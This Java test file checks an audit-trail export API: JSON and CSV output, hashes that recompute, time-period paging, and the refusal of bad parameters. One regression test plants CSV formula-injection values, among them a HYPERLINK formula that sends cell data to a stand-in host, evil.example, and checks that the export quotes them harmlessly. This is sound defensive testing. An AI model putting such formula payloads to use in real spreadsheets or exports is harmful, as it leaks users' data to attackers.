package io.runway.worker;

import static org.assertj.core.api.Assertions.assertThat;

import io.runway.worker.audit.AuditRecord;
import io.runway.worker.audit.AuditTrail;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.JsonNode;

/**
 * Exports of the audit trail as an auditor's tools receive them: JSON and CSV, per initiative and per
 * period, a page at a time; every exported row re-verifies with the README's canonical form.
 */
class AuditExportTest extends ApiTestSupport {

  private final HttpClient http = HttpClient.newHttpClient();

  @Autowired AuditTrail trail;

  @Test
  void anInitiativesEntriesExportAsJsonAndCsvWithTheSameRowsAndHashesAnyoneCanRecompute() throws Exception {
    String key = uniqueKey("audit-export");
    launch(key, "LIMITED");
    api.post(PROGRAM_OFFICE, "/api/v1/initiatives/" + key + "/withdraw", Map.of("reason", "gone"));
    // commas, quotes, a line break and non-ASCII text: CSV quoting and UTF-8 lengths must keep them intact
    trail.append(new AuditRecord("tester", "", null, key, "test append", "ACCEPTED", null, "a, \"b\"\nc — ü"));

    JsonNode json = api.get("auditor-1", "/api/v1/audit?initiativeKey=" + key).json();
    HttpResponse<String> byFormat = get("auditor-1", "/api/v1/audit?format=csv&initiativeKey=" + key, null);
    HttpResponse<String> byAccept = get("admin-1", "/api/v1/audit?initiativeKey=" + key, "text/csv");

    assertThat(json.path("total").asLong()).isEqualTo(3);
    assertThat(byFormat.statusCode()).isEqualTo(200);
    assertThat(byFormat.headers().firstValue("Content-Type").orElse("")).startsWith("text/csv");
    assertThat(byFormat.headers().firstValue("X-Total-Count")).contains("3");
    assertThat(byAccept.body()).isEqualTo(byFormat.body());
    List<List<String>> rows = ExternalAuditCheck.parseCsv(byFormat.body());
    assertThat(rows.getFirst()).isEqualTo(ExternalAuditCheck.CSV_COLUMNS);
    assertThat(rows).hasSize(4);
    for (int i = 1; i < rows.size(); i++) {
      List<String> row = rows.get(i);
      JsonNode entry = json.path("items").get(i - 1);
      assertThat(row.get(0)).isEqualTo(entry.path("seq").asString());
      assertThat(row.get(1)).isEqualTo(entry.path("occurredAt").asString());
      assertThat(row.get(9)).isEqualTo(entry.path("detail").isNull() ? null : entry.path("detail").asString());
      assertThat(row.get(11)).isEqualTo(entry.path("hash").asString());
      assertThat(ExternalAuditCheck.hash(row)).as("hash of exported row %s", row).isEqualTo(row.get(11));
    }
  }

  /** F3: a value a spreadsheet runs as a formula was exported as it was; now it is text, and still verifies. */
  @Test
  void valuesASpreadsheetWouldRunAsFormulasAreExportedAsTextAndStillVerify() throws Exception {
    String key = uniqueKey("audit-formula");
    trail.append(new AuditRecord("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "", null, key, "+cmd", "ACCEPTED",
        null, "@SUM(1+1)"));
    trail.append(new AuditRecord("'=already quoted", "", null, key, "-1", "ACCEPTED", null, "\tTAB"));

    HttpResponse<String> csv = get("auditor-1", "/api/v1/audit?format=csv&initiativeKey=" + key, null);
    JsonNode json = api.get("auditor-1", "/api/v1/audit?initiativeKey=" + key).json();

    List<String> cells = ExternalAuditCheck.cells(csv.body());
    assertThat(cells).as("no cell starts a formula")
        .noneMatch(c -> c != null && !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0);
    assertThat(cells).contains("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "'+cmd", "'@SUM(1+1)",
        "''=already quoted", "'-1", "'\tTAB");
    List<List<String>> rows = ExternalAuditCheck.parseCsv(csv.body());
    assertThat(rows.get(1).get(2)).isEqualTo(json.path("items").get(0).path("actor").asString());
    assertThat(rows.get(2).get(2)).isEqualTo("'=already quoted");
    for (List<String> row : rows.subList(1, rows.size())) {
      assertThat(ExternalAuditCheck.hash(row)).as("hash of exported row %s", row).isEqualTo(row.get(11));
    }
  }

  @Test
  void aPeriodSelectsEntriesByTimeAndPagesLinkToTheNextOne() throws Exception {
    Instant before = Instant.now();
    launch(uniqueKey("audit-period"), "LIMITED");
    launch(uniqueKey("audit-period"), "LIMITED");
    Instant after = Instant.now();
    LocalDate today = LocalDate.now(ZoneOffset.UTC);

    JsonNode between = api.get("auditor-1", "/api/v1/audit?from=" + before + "&to=" + after).json();
    JsonNode todays = api.get("auditor-1", "/api/v1/audit?size=1&from=" + today + "&to=" + today).json();
    JsonNode tomorrows = api.get("auditor-1", "/api/v1/audit?from=" + today.plusDays(1)).json();
    HttpResponse<String> firstPage = get("auditor-1", "/api/v1/audit?format=csv&size=1&from=" + before, null);

    assertThat(between.path("total").asLong()).isEqualTo(2);
    assertThat(between.path("items").findValuesAsString("action")).containsOnly("POST /api/v1/initiatives");
    assertThat(todays.path("total").asLong()).isGreaterThanOrEqualTo(2);
    assertThat(tomorrows.path("total").asLong()).isZero();
    assertThat(firstPage.headers().firstValue("Link").orElse(""))
        .contains("page=1").contains("size=1").contains("format=csv").endsWith("; rel=\"next\"");
    assertThat(ExternalAuditCheck.parseCsv(firstPage.body())).hasSize(2);
  }

  @Test
  void badExportParametersAreRefusedWithTheFieldToFix() {
    Api.Response backwards = api.get("auditor-1", "/api/v1/audit?from=2026-11-23&to=2026-11-01");
    Api.Response notATime = api.get("auditor-1", "/api/v1/audit?from=yesterday");
    Api.Response hugePage = api.get("auditor-1", "/api/v1/audit?size=50000");
    Api.Response unknownFormat = api.get("auditor-1", "/api/v1/audit?format=xml");

    assertProblem(backwards, 422);
    assertThat(backwards.detail()).startsWith("to:");
    assertProblem(notATime, 422);
    assertThat(notATime.detail()).contains("from").contains("2026-11-23T17:00:00Z");
    assertProblem(hugePage, 422);
    assertThat(hugePage.detail()).contains("size");
    assertProblem(unknownFormat, 422);
    assertThat(unknownFormat.detail()).contains("json or csv");
  }

  private HttpResponse<String> get(String user, String path, String accept) throws IOException, InterruptedException {
    HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
        .header("Authorization", "Basic " + Base64.getEncoder()
            .encodeToString((user + ":demo").getBytes(StandardCharsets.UTF_8)));
    if (accept != null) {
      request.header("Accept", accept);
    }
    return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
  }
}
